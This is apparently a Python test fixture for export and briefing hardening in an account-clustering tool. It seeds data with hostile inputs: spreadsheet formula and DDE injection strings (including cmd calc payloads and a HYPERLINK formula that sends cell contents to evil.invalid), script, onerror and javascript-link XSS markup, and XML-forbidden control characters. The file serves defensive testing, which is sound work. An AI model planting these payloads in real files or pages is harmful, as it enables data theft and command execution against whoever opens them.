"""A small case whose data and analysts' text are hostile, for the export and briefing hardening tests.

Spreadsheet formulas, HTML and Markdown arrive the way an attacker would
send them: through the input files (account ids, handles, device ids, an
AS organisation, prior labels) and through analysts' typed text (status
reasons, attributions, comments, tags). Control characters that XML 1.0
forbids reach the store only through routes that bypass ingest (a detection
run's members and analysts' text), so these tests do not depend on what
ingest does with them. The run is made by hand, as in
``test_export_formats.operation``, so the clusters hold exactly the accounts
named here.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from ingestcase import ingest_json, request_rows, write_table

from graph import triage, warehouse
from graph.store import open_store
from graph.workspace import Workspace

#: formulas as attackers plant them (OWASP's examples and their cousins)
FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB_FORMULA = "\t=1+1"
CR_FORMULA = "\r=1+1"
#: markup that fired alert dialogs when the Markdown briefing was rendered
SCRIPT = "<script>alert('as_org')</script>"
IMG = '<img src=x onerror="alert(1)">'
MD_LINK = "[click me](javascript:alert(2))"
MD_IMAGE = "![x](https://evil.invalid/pixel.png)"
ATTR_LIST = '{: onclick="alert(3)" }'
#: characters XML 1.0 forbids (NUL, BEL, ESC, a lone U+FFFF)
XML_FORBIDDEN = "x\x00y\x07z\x1b\uffff"

HOSTILE_ACCOUNT = "=cmd|' /C calc'!A0"  # an account id that is a formula
NUMERIC_ACCOUNT = "-42"  # an account id that is a plain negative number
XML_ACCOUNT = "acct" + XML_FORBIDDEN
ACTOR = "APT " + IMG + XML_FORBIDDEN


@dataclass
class Hostile:
    """The hostile workspace and the ids of its two clusters."""

    root: Path
    cluster: str = "C-hostile"
    other: str = "C-plain"

    def workspace(self) -> Workspace:
        return Workspace.open(self.root)


def _requests() -> list[dict]:
    rows = request_rows()
    for row in rows:
        if row["account_id"] == "acc_b":
            row["account_id"] = HOSTILE_ACCOUNT
            row["device_id"] = AT_SUM
        elif row["account_id"] == "acc_c":
            row["account_id"] = NUMERIC_ACCOUNT
    return rows


def build_hostile(root: Path) -> Hostile:
    """Ingest the hostile case into ``root``, save a hand-made run and judge it with hostile text."""
    case = root.parent / "hostile-case"
    write_table(case, "requests", _requests(), "csv")
    write_table(case, "accounts", [
        {"account_id": "acc_a", "handle": FORMULA, "status": "active"},
        {"account_id": HOSTILE_ACCOUNT, "handle": SCRIPT + MD_LINK, "status": DDE},
        {"account_id": NUMERIC_ACCOUNT, "handle": MD_IMAGE, "status": "active"},
    ], "csv")
    write_table(case, "ip_intel", [
        {"network": "5.160.10.0/24", "country": "IR", "asn": "58224", "as_org": MINUS + " " + SCRIPT, "kind": "hosting"},
        {"network": "175.136.1.0/24", "country": "MY", "asn": "4788", "as_org": IMG + ATTR_LIST, "kind": "mobile"},
    ], "csv")
    write_table(case, "labels", [
        {"entity": "account", "id": "acc_a", "label": "suspended", "actor": SCRIPT, "source": FORMULA,
         "note": MD_LINK},
    ], "csv")
    ingest_json(root, str(case))
    hostile = Hostile(root)
    members = {"acc_a": 0.9, HOSTILE_ACCOUNT: 0.8, NUMERIC_ACCOUNT: 0.7, XML_ACCOUNT: 0.6}
    store = open_store(hostile.workspace())
    try:
        store.save_run(
            {"run_id": "run-hostile", "params": {"min_score": 0.5}},
            [{"cluster_id": hostile.cluster, "score": 0.91, "size": len(members), "top_ip_country": "IR",
              "kind": "infrastructure", "reasons": [FORMULA, SCRIPT, MD_LINK, "shared hosting " + XML_FORBIDDEN]},
             {"cluster_id": hostile.other, "score": 0.55, "size": 1, "top_ip_country": "MY"}],
            [{"account_id": a, "cluster_id": hostile.cluster, "member_score": s} for a, s in members.items()]
            + [{"account_id": "victim_1", "cluster_id": hostile.other, "member_score": 0.5}],
        )
        triage.set_status(store, hostile.cluster, "confirmed", CR_FORMULA + " " + IMG, "alice")
        triage.set_attribution(store, "cluster", hostile.cluster, actor=ACTOR, country="IR",
                               confidence="moderate", rationale=MD_IMAGE + " " + ATTR_LIST, user="alice")
        triage.add_comment(store, "cluster", hostile.cluster, TAB_FORMULA + " " + SCRIPT, "bob")
        triage.add_comment(store, "cluster", hostile.cluster, DDE, "bob")
        triage.add_tag(store, "cluster", hostile.cluster, AT_SUM, "bob")
    finally:
        store.close()
        warehouse.close_all()
    return hostile
